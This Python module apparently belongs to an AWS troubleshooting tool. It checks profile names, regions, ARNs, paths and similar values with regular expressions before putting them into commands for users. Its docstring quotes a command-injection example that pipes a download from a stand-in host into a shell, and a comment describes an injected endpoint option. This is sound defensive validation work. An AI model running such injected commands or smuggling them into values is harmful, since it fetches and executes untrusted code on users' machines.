"""What a value must look like before awsmedic puts it into a command for the user to run.

The values come from the paste, the shared files and the environment, and any of them may be
hostile (`The config profile (dev;curl -s evil.example|sh;#) could not be found`). Every value
is quoted for its shell anyway; where AWS defines the grammar of a value (a region, an ARN, an
account id, an IAM name) or where a name can only be one the user would type (a profile), a
value that does not fit is refused: the command keeps its `<placeholder>` and says why.
"""

from __future__ import annotations

import re
from collections.abc import Mapping

# Not starting with `-`: after `--profile` such a name is read as an option (quoting does not
# change that), so `--endpoint-url=https://evil.example` would send the request elsewhere.
_PROFILE = re.compile(r"^[A-Za-z0-9_.@+=:/,][A-Za-z0-9_.@+=:/,-]*(?: [A-Za-z0-9_.@+=:/,-]+)*$")
_REGION = re.compile(r"^[a-z]{2}(?:-[a-z]+)+-\d{1,2}$")
# arn:partition:service:region:account:resource; IAM's own characters in the resource.
_ARN = re.compile(
    r"^arn:aws(?:-[a-z]+)*:[a-z0-9-]+:(?:[a-z]{2}(?:-[a-z]+)+-\d{1,2})?:(?:\d{12}|aws)?:"
    r"[A-Za-z0-9+=,.@_/:*-]+$"
)
_ACCOUNT = re.compile(r"^\d{12}$")
_IAM_NAME = re.compile(r"^[A-Za-z0-9+=,.@_-]{1,128}$")
_MFA_SERIAL = re.compile(r"^[A-Za-z0-9+=/:,.@_-]{9,256}$")
_URL = re.compile(r"^https?://[A-Za-z0-9.-]+(?::\d{1,5})?(?:/[A-Za-z0-9._~/#%-]*)?$")
_BUCKET = re.compile(r"^[a-z0-9][a-z0-9.-]{1,61}[a-z0-9]$")
_ACTION = re.compile(r"^[a-z0-9-]+:[A-Za-z0-9*]+$")
_SERVICE = re.compile(r"^[a-z0-9][a-z0-9-]*$")
_OPERATION = re.compile(r"^[A-Za-z0-9]+$")
_PRINCIPAL = re.compile(r"^(?:\*|[a-z0-9.-]+\.amazonaws\.com(?:\.cn)?)$")
_PATH = re.compile(r"^[^\x00-\x1f\x7f]+$")
# Cognito Identity's REGION:GUID (its model's pattern `[\w-]+:[0-9a-f-]+`, with a real region).
_COGNITO_ID = re.compile(
    r"^[a-z]{2}(?:-[a-z]+)+-\d{1,2}:[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$"
)
_KEY_ID = re.compile(r"^(?:AKIA|ASIA|AIDA|AROA)[A-Z2-7]{16}$")
# A database user as RDS's IAM sign-in takes it (the end of an rds-db:connect resource ARN): a
# name without blanks, quotes or statement separators, so that it is safe in the SQL of a step.
_DB_USER = re.compile(r"^[A-Za-z_][A-Za-z0-9_.@$-]{0,62}$")
# RDS endpoints and identifiers (AmazonRDS/latest/UserGuide/Overview.DBInstance.html: a letter,
# then letters, digits and single hyphens, at most 63)
_DB_IDENTIFIER = re.compile(r"^[a-z](?:-?[a-z0-9])*$")
_DB_HOST = re.compile(r"^[a-z0-9.-]{1,200}\.rds\.amazonaws\.com(?:\.cn)?$")
_DB_RESOURCE_ID = re.compile(r"^(?:db|cluster)-[A-Z0-9]{10,40}$")
_UUID = re.compile(r"^[0-9a-f]{8}(?:-[0-9a-f]{4}){3}-[0-9a-f]{12}$")
#: Values that are never the real thing: an access key id is only ever shown masked.
NEVER_IN_COMMANDS = frozenset({"access_key_id"})

#: Placeholder -> (the shapes that fit, what they are called in a refusal).
SHAPES: Mapping[str, tuple[tuple[re.Pattern[str], ...], str]] = {
    "profile": ((_PROFILE,), "a profile name"),
    "source_profile": ((_PROFILE,), "a profile name"),
    "admin_profile": ((_PROFILE,), "a profile name"),
    "suggested_profile": ((_PROFILE,), "a profile name"),
    "sso_session": ((_PROFILE,), "an sso-session name"),
    "region": ((_REGION,), "a region"),
    "partition_region": ((_REGION,), "a region"),
    "bucket_region": ((_REGION,), "a region"),
    "suggested_region": ((_REGION,), "a region"),
    "role_arn": ((_ARN,), "an ARN"),
    "arn": ((_ARN,), "an ARN"),
    "resource": ((_ARN, _PRINCIPAL), "an ARN"),
    "principal": ((_ARN, _PRINCIPAL), "an ARN"),
    "mfa_serial": ((_ARN, _MFA_SERIAL), "an MFA device ARN or serial number"),
    "account_id": ((_ACCOUNT,), "an account id"),
    "iam_user": ((_IAM_NAME,), "an IAM user name"),
    "role_name": ((_IAM_NAME,), "an IAM role name"),
    "instance_profile": ((_IAM_NAME,), "an instance profile name"),
    "bucket": ((_BUCKET,), "a bucket name"),
    "pod_role_arn": ((_ARN,), "an ARN"),
    "cluster": ((re.compile(r"^[0-9A-Za-z][A-Za-z0-9_-]{0,99}$"),), "an EKS cluster name"),
    "registry": (
        (re.compile(r"^\d{12}\.dkr\.ecr(?:-fips)?\.[a-z0-9-]+\.amazonaws\.com(?:\.cn)?$"),),
        "an ECR registry host",
    ),
    "kubeconfig": ((_PATH,), "a file path"),
    "encoded_message": ((re.compile(r"^[A-Za-z0-9+/=_-]{16,8192}$"),), "an encoded message"),
    "instance_id": ((re.compile(r"^i-[0-9a-f]{8,17}$"),), "an instance id"),
    "external_id": ((re.compile(r"^[\w+=,.@:/-]{2,1224}$"),), "an external ID"),
    "mfa_code": ((re.compile(r"^\d{6}$"),), "an MFA code"),
    "session_profile": ((_PROFILE,), "a profile name"),
    "working_profile": ((_PROFILE,), "a profile name"),
    "legacy_profile": ((_PROFILE,), "a profile name"),
    "principal_arn": ((_ARN,), "an ARN"),
    "intended_profile": ((_PROFILE,), "a profile name"),
    "service_user": ((re.compile(r"^[a-z_][a-z0-9_.-]{0,31}\$?$"),), "a user name"),
    "proxy_url": ((_URL,), "a URL"),
    "sso_region": ((_REGION,), "a region"),
    "sso_start_url": ((_URL,), "a URL"),
    "endpoint_url": ((_URL,), "a URL"),
    "endpoint_root": ((_URL,), "a URL"),
    "action": ((_ACTION,), "an IAM action"),
    "service": ((_SERVICE,), "a service name"),
    "operation": ((_OPERATION,), "an operation name"),
    "access_key_id": ((_KEY_ID,), "a whole access key id (it is only ever shown masked)"),
    "credentials_file": ((_PATH,), "a file path"),
    "unreadable_file": ((_PATH,), "a file path"),
    "unreadable_file_aside": ((_PATH,), "a file path"),
    "unreadable_inner_file": ((_PATH,), "a file path"),
    "link_target": ((_PATH,), "a file path"),
    "colon_file": ((_PATH,), "a file path"),
    "identity_pool_id": ((_COGNITO_ID,), "an identity pool id"),
    "identity_id": ((_COGNITO_ID,), "an identity id"),
    "identity_pool_region": ((_REGION,), "a region"),
    "config_file": ((_PATH,), "a file path"),
    "bedrock_key_user": ((_IAM_NAME,), "an IAM user name"),
    "bedrock_key_region": ((_REGION,), "a region"),
    "certificate_arn": ((_ARN,), "an ARN"),
    "certificate_id": ((re.compile(r"^[0-9a-f]{64}$"),), "a certificate id"),
    "db_user": ((_DB_USER,), "a database user name"),
    "db_host": ((_DB_HOST,), "an RDS endpoint"),
    "db_instance": ((_DB_IDENTIFIER,), "a DB instance identifier"),
    "db_cluster": ((_DB_IDENTIFIER,), "a DB cluster identifier"),
    "db_resource_id": ((_DB_RESOURCE_ID,), "a database resource id"),
    "certificate_file": ((_PATH,), "a file path"),
    "private_key_file": ((_PATH,), "a file path"),
    # IAM Roles Anywhere's ids are UUIDs (the end of a trust anchor's or a profile's ARN)
    "trust_anchor_id": ((_UUID,), "a trust anchor id"),
    "ra_profile_id": ((_UUID,), "a profile id"),
    # botocore/data/bedrock GetFoundationModelAvailabilityRequest modelId, without its custom
    # model suffix
    "bedrock_model_id": (
        (
            re.compile(
                r"^[a-z0-9-]{1,63}\.[a-z0-9-]{1,63}(?:[a-z0-9-]{1,63}\.){0,2}[a-z0-9-]{1,63}"
                r"(?::[a-z0-9-]{1,63}){0,2}$"
            ),
        ),
        "a Bedrock model id",
    ),
}
#: Any other value: no control characters, not absurdly long.
_ANY = re.compile(r"^[^\x00-\x1f\x7f-\x9f]{1,512}$")


def refusal(name: str, value: str) -> str | None:
    """What `value` is not, when it cannot be the `name` of a command ("a profile name"), or
    None: it fits, quote it and use it."""
    patterns, called = SHAPES.get(name, ((_ANY,), "a usable value"))
    if "`" not in value and any(pattern.match(value) for pattern in patterns):
        return None
    return called


def shown(value: str, limit: int = 40) -> str:
    """A refused value for a sentence: printable and short (put it in a code span)."""
    text = "".join(c if c.isprintable() else "?" for c in value)
    return text if len(text) <= limit else text[: limit - 1] + "…"
